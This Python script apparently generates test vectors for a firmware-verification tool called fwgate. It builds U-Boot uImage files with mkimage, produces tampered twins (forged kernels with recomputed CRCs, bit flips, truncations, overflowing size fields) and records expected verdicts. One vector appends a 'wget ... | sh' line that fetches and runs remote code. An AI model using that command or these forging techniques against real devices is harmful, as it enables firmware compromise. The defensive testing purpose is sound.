"""Makes the uImage vectors with mkimage (u-boot-tools) and their tampered twins, and writes
expected.json. Expected verdicts and codes come from how each file was made (this script),
never from fwgate. Run through generate.sh."""
import gzip
import json
import os
import random
import struct
import subprocess
import zlib

EPOCH = "1767225600"  # 2026-01-01T00:00:00Z, ih_time of every image
ENV = dict(os.environ, SOURCE_DATE_EPOCH=EPOCH, TZ="UTC")
HERE = os.path.dirname(os.path.abspath(__file__))
WORK = os.path.join(HERE, "payloads")


def payload(name, size, seed):
    data = random.Random(seed).randbytes(size)
    with open(os.path.join(WORK, name), "wb") as f:
        f.write(data)
    return data


def mkimage(out, *args):
    subprocess.run(["mkimage", *args, out], cwd=HERE, env=ENV, check=True, stdout=subprocess.DEVNULL)


def reference(name):
    """dumpimage -l: whether u-boot-tools accepts the file as a legacy image (it checks the
    magic, the header CRC and the data CRC), and its first line."""
    run = subprocess.run(["dumpimage", "-l", name], cwd=HERE, env=ENV, capture_output=True, text=True)
    first = (run.stdout or run.stderr).splitlines()[0] if (run.stdout or run.stderr) else ""
    return {"tool": "dumpimage -l", "acceptsAsLegacyImage": first.startswith("Image Name:"), "firstLine": first}


def read(name):
    with open(os.path.join(HERE, name), "rb") as f:
        return bytearray(f.read())


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(bytes(data))


def fix_hcrc(data):
    data[4:8] = b"\0\0\0\0"
    data[4:8] = struct.pack(">I", zlib.crc32(bytes(data[:64])))
    return data


def fix_dcrc(data):
    size = struct.unpack(">I", data[12:16])[0]
    data[24:28] = struct.pack(">I", zlib.crc32(bytes(data[64:64 + size])))
    return fix_hcrc(data)


os.makedirs(WORK, exist_ok=True)
kernel = payload("kernel.bin", 16384 + 3, 1)
ramdisk = payload("ramdisk.bin", 5001, 2)
dtb = payload("board.dtb", 1025, 3)
other = payload("attacker-kernel.bin", 16384 + 3, 4)
with open(os.path.join(WORK, "boot.cmd"), "w") as f:
    f.write("setenv bootargs console=ttyS0,115200 root=/dev/mmcblk0p2 rootwait\nbootm 0x82000000\n")
with open(os.path.join(WORK, "kernel.bin.gz"), "wb") as f:
    f.write(gzip.compress(kernel, mtime=0))

base = ["-A", "arm", "-O", "linux", "-a", "0x80008000", "-e", "0x80008000"]
mkimage("kernel.uimg", *base, "-T", "kernel", "-C", "none", "-n", "fwgate test kernel 1.0", "-d", "payloads/kernel.bin")
mkimage("kernel-gzip.uimg", *base, "-T", "kernel", "-C", "gzip", "-n", "fwgate test kernel 1.0 gz", "-d", "payloads/kernel.bin.gz")
mkimage("multi.uimg", *base, "-T", "multi", "-C", "none", "-n", "fwgate multi",
        "-d", "payloads/kernel.bin:payloads/ramdisk.bin:payloads/board.dtb")
mkimage("script.uimg", "-A", "arm", "-O", "linux", "-T", "script", "-C", "none", "-n", "boot script", "-d", "payloads/boot.cmd")
# The attack CRCs cannot stop: another kernel under the same name, both CRCs made by mkimage.
mkimage("kernel-forged.uimg", *base, "-T", "kernel", "-C", "none", "-n", "fwgate test kernel 1.0", "-d", "payloads/attacker-kernel.bin")

good = read("kernel.uimg")

t = bytearray(good); t[64 + 1000] ^= 0x01; write("kernel-data-flip.uimg", t)
t = bytearray(good); t[16 + 2] ^= 0x10; write("kernel-header-flip.uimg", t)  # ih_load changed, CRC stale
t = bytearray(good); t[4] ^= 0x01; write("kernel-hcrc-flip.uimg", t)
t = bytearray(good); t[24] ^= 0x01; t = fix_hcrc(t); write("kernel-dcrc-flip.uimg", t)  # header CRC made to agree
t = bytearray(good); t[32:36] = b"evil"; t = fix_hcrc(t); write("kernel-renamed.uimg", t)  # header edited, CRC recomputed
write("kernel-truncated.uimg", good[:64 + 10000])
write("kernel-truncated-header.uimg", good[:40])
t = bytearray(good); t[0] ^= 0xFF; write("kernel-bad-magic.uimg", t)
t = bytearray(good); t[12:16] = struct.pack(">I", 0xFFFFFFFF); t = fix_hcrc(t); write("kernel-size-overflow.uimg", t)
rng = random.Random(5)
write("kernel-trailing.uimg", good + rng.randbytes(4096) + b"#!/bin/sh\nwget http://203.0.113.7/x | sh\n")
write("kernel-erased-padding.uimg", good + b"\xff" * 8192)

multi = read("multi.uimg")
# Size table entry 1 (ramdisk) claims more than the data holds; both CRCs recomputed.
t = bytearray(multi); t[64 + 4:64 + 8] = struct.pack(">I", 0x00100000); t = fix_dcrc(t); write("multi-size-past-data.uimg", t)
# The terminating 0 replaced: the table runs on into the sub-images' bytes (all non-zero words
# up to the end would be needed to truncate; the first kernel word is read as a size instead).
t = bytearray(multi); t[64 + 12:64 + 16] = struct.pack(">I", 1); t = fix_dcrc(t); write("multi-no-terminator.uimg", t)
t = bytearray(multi); t[-1] ^= 0x01; write("multi-dtb-flip.uimg", t)

STRICT = "the built-in strict policy: an unsigned image fails with signature.missing"
vectors = []


def vector(file, verdict, failed, warnings=(), why="", policy=None, fmt=None, parse_error=None, attack=None, lenient=None, stricter=None):
    v = {"file": file, "trust": [], "verdict": verdict, "failed": sorted(failed), "warnings": sorted(warnings), "why": why}
    if policy:
        v["policy"] = policy
    if fmt:
        v["format"] = fmt
    if attack:
        v["attack"] = attack
    if lenient:
        v["referenceMoreLenient"] = lenient
    if stricter:
        v["referenceStricter"] = stricter
    v["description"] = {"parseError": parse_error} if parse_error else None
    v["reference"] = reference(file)
    vectors.append(v)


vector("kernel.uimg", "fail", ["signature.missing"], why=f"valid kernel image; {STRICT}; both CRCs pass")
vector("kernel.uimg", "warn", [], ["signature.missing", "policy.unsigned-format"], policy="policy-unsigned-ok.yaml",
       why="the same image under a lab policy listing uimage under unsignedFormatsUnsafe: both CRCs pass, the missing signature only warns")
vector("kernel-gzip.uimg", "fail", ["signature.missing"], why="gzip-compressed kernel: the CRC covers the compressed bytes; nothing is decompressed")
vector("multi.uimg", "fail", ["signature.missing"], why="multi-file image: kernel (16387 bytes, padded to 16388), ramdisk (5001, padded), dtb (1025, last, unpadded)")
vector("script.uimg", "fail", ["signature.missing"], why="boot script: a one-entry size table")
vector("kernel-forged.uimg", "fail", ["signature.missing"],
       why="another kernel under the same name with CRCs made by mkimage: the CRCs pass, and only the missing signature fails it",
       attack="replace the payload and recompute ih_dcrc and ih_hcrc",
       lenient="dumpimage (and U-Boot's bootm) accept it: CRCs prove nothing about who built an image")
vector("kernel-forged.uimg", "warn", [], ["signature.missing", "policy.unsigned-format"], policy="policy-unsigned-ok.yaml",
       why="the forged kernel under the lab policy: indistinguishable from the real one, which is why unsigned images fail by default")
vector("kernel-data-flip.uimg", "fail", ["integrity.crc-mismatch", "signature.missing"], why="one data bit flipped: data CRC mismatch")
vector("kernel-header-flip.uimg", "fail", ["integrity.crc-mismatch", "signature.missing"], why="ih_load changed without fixing ih_hcrc: header CRC mismatch")
vector("kernel-hcrc-flip.uimg", "fail", ["integrity.crc-mismatch", "signature.missing"], why="ih_hcrc itself flipped")
vector("kernel-dcrc-flip.uimg", "fail", ["integrity.crc-mismatch", "signature.missing"], why="ih_dcrc flipped and ih_hcrc recomputed: the header agrees with itself, the data does not match")
vector("kernel-renamed.uimg", "fail", ["signature.missing"], why="ih_name edited and ih_hcrc recomputed: both CRCs pass",
       attack="edit a header field and recompute the header CRC", lenient="dumpimage accepts it")
vector("kernel-truncated.uimg", "fail", ["malformed.truncated"], why="cut 10000 bytes into the data: ih_size runs past the end (reported at the data's start, 0x40)",
       parse_error={"code": "malformed.truncated", "offset": 64})
vector("kernel-truncated-header.uimg", "fail", ["malformed.truncated"], why="40 bytes: the header itself is cut",
       parse_error={"code": "malformed.truncated", "offset": 0})
vector("kernel-bad-magic.uimg", "fail", ["malformed.bad-magic"], fmt="uimage", why="ih_magic changed (format forced, as detection no longer recognises it)",
       parse_error={"code": "malformed.bad-magic", "offset": 0})
vector("kernel-size-overflow.uimg", "fail", ["malformed.truncated"], why="ih_size 0xffffffff with ih_hcrc recomputed: 4 GiB of data declared in a 16 KiB file",
       attack="a huge size field with a consistent header CRC", lenient="dumpimage -l lists it as a valid 4 GiB image", parse_error={"code": "malformed.truncated", "offset": 64})
vector("kernel-trailing.uimg", "fail", ["signature.missing"], ["integrity.unsigned-trailing-data"],
       why="4 KiB of random bytes and a shell script after the data: no CRC covers them",
       attack="append code after the image",
       stricter="dumpimage refuses any file longer than the header and ih_size; fwgate reports the bytes as a warning (a policy can make it a failure) and still checks the image")
vector("kernel-trailing.uimg", "warn", [], ["integrity.unsigned-trailing-data", "signature.missing", "policy.unsigned-format"],
       policy="policy-unsigned-ok.yaml", why="the same under the lab policy: still a warning")
vector("kernel-trailing.uimg", "fail", ["integrity.unsigned-trailing-data"], ["signature.missing", "policy.unsigned-format"],
       policy="policy-trailing-fail.yaml", why="a policy with unsignedTrailingData: fail")
vector("kernel-erased-padding.uimg", "fail", ["signature.missing"], why="8 KiB of 0xff after the data: erased flash, not reported",
       stricter="dumpimage refuses any file longer than the header and ih_size; fwgate accepts erased flash (0xff) after the data, as a partition dump holds it")
vector("multi-size-past-data.uimg", "fail", ["malformed.length"],
       why="size table entry 1 claims 1 MiB inside 22 KiB of data (CRCs recomputed): reported at the entry (0x44)",
       attack="a sub-image size that overruns the data with consistent CRCs", lenient="dumpimage -l lists the bogus size",
       parse_error={"code": "malformed.length", "offset": 68})
vector("multi-no-terminator.uimg", "fail", ["malformed.length"],
       why="the table's terminating 0 replaced by 1 (CRCs recomputed): the table would run on into the kernel's bytes; the entry that was the terminator already declares more than the data holds (the sub-images fill it exactly), reported there (0x4c)",
       attack="a size table without its terminator", parse_error={"code": "malformed.length", "offset": 76})
vector("multi-dtb-flip.uimg", "fail", ["integrity.crc-mismatch", "signature.missing"], why="the last sub-image's last byte flipped")

expected = {
    "about": "U-Boot legacy images made by mkimage (u-boot-tools) from fixed pseudo-random payloads (payloads/), with ih_time fixed by SOURCE_DATE_EPOCH, and tampered twins; generate.sh remakes every file byte for byte. 'failed' and 'warnings' are the exact sets of check codes fwgate must report (trust is empty: uImage has no signature, so there is no wrong-key or signature twin). 'reference' is dumpimage -l (it checks the magic and both CRCs); 'referenceMoreLenient' says where u-boot-tools accepts what fwgate fails or warns about, 'referenceStricter' where it refuses what fwgate accepts or only warns about, and why.",
    "tool": {"name": "u-boot-tools", "version": subprocess.run(["mkimage", "-V"], capture_output=True, text=True).stdout.strip()},
    "vectors": vectors,
}
with open(os.path.join(HERE, "expected.json"), "w") as f:
    json.dump(expected, f, indent=2)
    f.write("\n")
print(f"wrote {len(vectors)} vectors")
